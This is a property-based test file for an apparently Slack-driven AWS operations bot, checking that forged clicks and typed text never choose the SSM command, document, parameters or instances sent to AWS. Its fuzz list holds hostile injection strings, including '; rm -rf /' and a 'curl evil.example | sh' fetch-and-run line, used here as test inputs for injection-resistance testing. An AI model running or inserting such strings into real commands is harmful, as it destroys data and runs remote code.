import { GetCommandInvocationCommand, SendCommandCommand, StartAutomationExecutionCommand } from '@aws-sdk/client-ssm';
import { CreateLaunchTemplateVersionCommand, ModifyInstanceCreditSpecificationCommand } from '@aws-sdk/client-ec2';
import fc from 'fast-check';
import { handler as slackHandler } from '../../functions/slack';
import { handler as workerHandler } from '../../functions/worker';
import { StartInstanceRefreshCommand } from '@aws-sdk/client-auto-scaling';
import { isOfferedFor, parseTypeChoice } from '../../commands/credits/bigger-types';
import { movePlan } from '../../commands/credits/move-plan';
import { parseFleetRef } from '../../commands/processes/fleet-ref';
import { PROCESS_COMMAND } from '../../commands/processes/report';
import { alarmContext, bindParameters } from '../../commands/runbooks/match';
import { parseConfig } from '../../lib/config/parse';
import { readFileSync } from 'node:fs';
import { signedEvent } from '../fakes/slack-requests';
import { AlarmFlow, tsOf } from '../integration/alarm-flow';
import { ebCpuAlarm, PROD } from '../integration/alarm-payloads';
import { lambdaContext, useHarness } from '../integration/harness';
import { runs } from './support/budget';
import { checkProperty } from './support/fc-run';
import { EVIL_MARKUP, forgedId } from './support/hostile';
import { clickForm } from './support/requests';

/**
 * What a person can put into a click (the button's value, their name, the channel) or a command's text never
 * chooses a shell command, a document or a parameter: the process listing is one constant, the runbooks' documents
 * and parameters come from the configuration and the alarm, and the instances from AWS.
 */
const harness = useHarness('test/fixtures/config/runbooks.yml');

const SHELL = [
  '$(reboot)',
  '`id`',
  '; rm -rf /',
  '&& curl evil.example | sh',
  "' OR 1=1 --",
  '\n/bin/sh',
  '{reason}',
  '{text}',
];
const hostileText = fc.oneof(
  fc.constantFrom(...SHELL, ...EVIL_MARKUP),
  fc.string({ maxLength: 60 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
);
const FLEET_INSTANCES = new Set(['i-0aaa1111bbbb2222c', 'i-0ddd3333eeee4444f', 'i-12345678901234567']);
const KEY = '111111111111:ap-northeast-2:edu-web-prod-cpu-high';

describe('the acting buttons, forged', () => {
  const clickValue = fc.oneof(
    fc.constantFrom(
      'web:prod',
      'web:staging',
      'api:prod',
      `restart|${KEY}`,
      `agents|${KEY}`,
      'web:prod:t3.small',
      'web:prod:t4g.small',
      'web:prod:t3.nano',
      'web:prod:m5.24xlarge',
    ),
    hostileText.map((text) => `web:prod:${text}`),
    hostileText.map((text) => `web:prod:t3.small${text}`),
    hostileText.map((text) => `web:prod${text}`),
    hostileText.map((text) => `${text}|${KEY}`),
    hostileText.map((text) => `restart|${text}`),
    hostileText,
    forgedId,
  );

  it('never send a command, document or parameter a click chose', async () => {
    const flow = new AlarmFlow(harness());
    try {
      flow.exhaustedFleet();
      flow.aws.ssm.on(SendCommandCommand).resolves({ Command: { CommandId: '3c9b1a2e-5f0d-4c1e-9d7b-2f0e8a1b6c4d' } });
      flow.aws.ssm.on(GetCommandInvocationCommand).resolves({ Status: 'InProgress' });
      flow.aws.ssm
        .on(StartAutomationExecutionCommand)
        .resolves({ AutomationExecutionId: '73c8eef8-f4ee-4a05-820c-e354f0e9a1b2' });
      await flow.deliver(
        ebCpuAlarm({ ...PROD, name: 'edu-web-prod-cpu-high' }, { state: 'ALARM', at: new Date(Date.now() - 60_000) }),
      );
      const ts = tsOf(flow.posts('C0PRODOPS01')[0]);
      let sent = 0; // SendCommand calls seen across the cases
      await checkProperty(
        fc.asyncProperty(
          fc.oneof(
            // Half the clicks are a real button's, with a forged name, channel or clicker around them.
            { weight: 1, arbitrary: fc.constantFrom(['processes.ask', 'web:prod'], ['runbook.run', `restart|${KEY}`]) },
            {
              weight: 1,
              arbitrary: fc.tuple(
                fc.constantFrom(
                  'processes.ask',
                  'runbook.run',
                  'credits.unlimited',
                  'credits.standard',
                  'credits.bigger',
                  'credits.bigger-to',
                ),
                clickValue,
              ),
            },
          ),
          fc.constantFrom('U0ALICE', 'U0BOB', 'U0CAROL', 'U0MALLORY'),
          hostileText,
          fc.oneof(
            { weight: 4, arbitrary: fc.constant('C0PRODOPS01') },
            { weight: 1, arbitrary: fc.constant('C0STAGING01') },
          ),
          async ([action, value], userId, userName, channelId) => {
            flow.aws.ssm.resetHistory();
            flow.ec2.resetHistory();
            flow.aws.autoscaling.resetHistory();
            harness().queued.length = 0;
            harness().delayed.length = 0;
            const body = clickForm({
              action,
              value,
              userId,
              userName,
              channelId,
              messageTs: ts,
              responseUrl: harness().slack.responseUrl(),
              message: {
                text: 'the alarm',
                blocks: [
                  {
                    type: 'actions',
                    elements: [
                      { type: 'button', action_id: action, value, text: { type: 'plain_text', text: 'Do it' } },
                    ],
                  },
                ],
              },
            });
            await slackHandler(signedEvent(body), lambdaContext);
            while (harness().queued.length) await workerHandler(harness().takeJobs(), lambdaContext);
            // Assess: every SSM call is the fixed listing, or a configured runbook with the alarm's parameters
            sent += flow.aws.ssm.commandCalls(SendCommandCommand).length;
            for (const call of flow.aws.ssm.commandCalls(SendCommandCommand)) {
              const input = call.args[0].input;
              expect(input.InstanceIds?.every((id) => FLEET_INSTANCES.has(id))).toBe(true);
              expect([
                JSON.stringify({ commands: [PROCESS_COMMAND], executionTimeout: ['30'] }),
                JSON.stringify({ commands: ['systemctl restart amazon-ssm-agent'], executionTimeout: ['60'] }),
              ]).toContain(JSON.stringify(input.Parameters));
              expect(['AWS-RunShellScript']).toContain(input.DocumentName);
            }
            for (const call of flow.aws.ssm.commandCalls(StartAutomationExecutionCommand)) {
              expect(call.args[0].input.DocumentName).toBe('AWS-RestartEC2Instance');
              expect(call.args[0].input.Parameters).toEqual({ InstanceId: ['i-12345678901234567'] });
            }
            for (const call of flow.ec2.commandCalls(ModifyInstanceCreditSpecificationCommand)) {
              for (const spec of call.args[0].input.InstanceCreditSpecifications ?? [])
                expect(FLEET_INSTANCES.has(spec.InstanceId ?? '')).toBe(true);
            }
            // Nothing is changed by a click alone on prod (protected): no version, no refresh
            expect(flow.ec2.commandCalls(CreateLaunchTemplateVersionCommand)).toEqual([]);
            expect(flow.aws.autoscaling.commandCalls(StartInstanceRefreshCommand)).toEqual([]);
            // Nothing typed shows up in what AWS was sent (a name or a value the click carried)
            const toAws = JSON.stringify([
              ...flow.aws.ssm.calls().map((call) => call.args[0].input),
              ...flow.ec2.calls().map((call) => call.args[0].input),
            ]);
            if (userName.length >= 4 && !/^[\w -]*$/.test(userName)) expect(toAws).not.toContain(userName);
          },
        ),
        runs('clickActs'),
      );
      // Not vacuous: real clicks reached Run Command, and were checked.
      expect(sent).toBeGreaterThan(0);
    } finally {
      flow.restore();
    }
  }, 300_000);
});

const TABLE_TYPE = /^t(2|3|3a|4g)\.(nano|micro|small|medium|large|xlarge|2xlarge)$/;
const SIZES = ['nano', 'micro', 'small', 'medium', 'large', 'xlarge', '2xlarge'];

describe('the rules a click meets, over any text', () => {
  it('move a group only to a larger size of its own family, whatever type a click names', async () => {
    const tableType = fc
      .tuple(fc.constantFrom('t2', 't3', 't3a', 't4g'), fc.constantFrom(...SIZES))
      .map(([family, size]) => `${family}.${size}`);
    let moves = 0;
    await checkProperty(
      fc.property(tableType, fc.oneof(tableType, hostileText), (current, named) => {
        // Act: the click's type as the worker reads it, then the plan for a group on `current`
        const choice = parseTypeChoice(`web:prod:${named}`);
        const plan = choice
          ? movePlan(choice.instanceType, [
              {
                group: 'edu-web-prod-asg',
                templateId: 'lt-0e1d2c3b4a5968778',
                templateName: 'edu-web',
                versionRef: '$Default',
                version: 7,
                instanceType: current,
              },
            ])
          : undefined;
        // Assess: a version is planned only for a larger size of the same family
        const [family, size = ''] = current.split('.');
        for (const moved of plan?.templates ?? []) {
          moves += 1;
          const [toFamily, toSize = ''] = plan?.instanceType.split('.') ?? [];
          expect(toFamily).toBe(family);
          expect(SIZES.indexOf(toSize)).toBeGreaterThan(SIZES.indexOf(size));
          expect(isOfferedFor(moved.instanceType, plan?.instanceType ?? '')).toBe(true);
        }
      }),
      runs('actsParse'),
    );
    expect(moves).toBeGreaterThan(0); // not vacuous: some named types were moves
  });

  const config = parseConfig(readFileSync('test/fixtures/config/runbooks.yml', 'utf8'), 'runbooks.yml');
  const runbooks = config.apps.web?.runbooks.prod ?? [];

  it('read only configuration names from a button value, and bind runbook parameters from the alarm alone', async () => {
    await checkProperty(
      fc.property(hostileText, hostileText, (value, alarmName) => {
        // Act
        const ref = parseFleetRef(value);
        const context = alarmContext({
          account: '111111111111',
          region: 'ap-northeast-2',
          alarmName,
          metric: { namespace: 'AWS/EC2', name: 'CPUUtilization', dimensions: { InstanceId: 'i-12345678901234567' } },
        });
        // Assess
        if (ref) expect(`${ref.app}:${ref.env}`).toMatch(/^[a-z0-9][a-z0-9_-]{0,31}:[a-z0-9][a-z0-9_-]{0,31}$/);
        const choice = parseTypeChoice(value);
        if (choice) expect(choice.instanceType).toMatch(TABLE_TYPE);
        for (const runbook of runbooks) {
          const bound = bindParameters(runbook, context);
          expect(bound).toEqual({ parameters: { InstanceId: ['i-12345678901234567'] } });
        }
      }),
      runs('actsParse'),
    );
  });
});
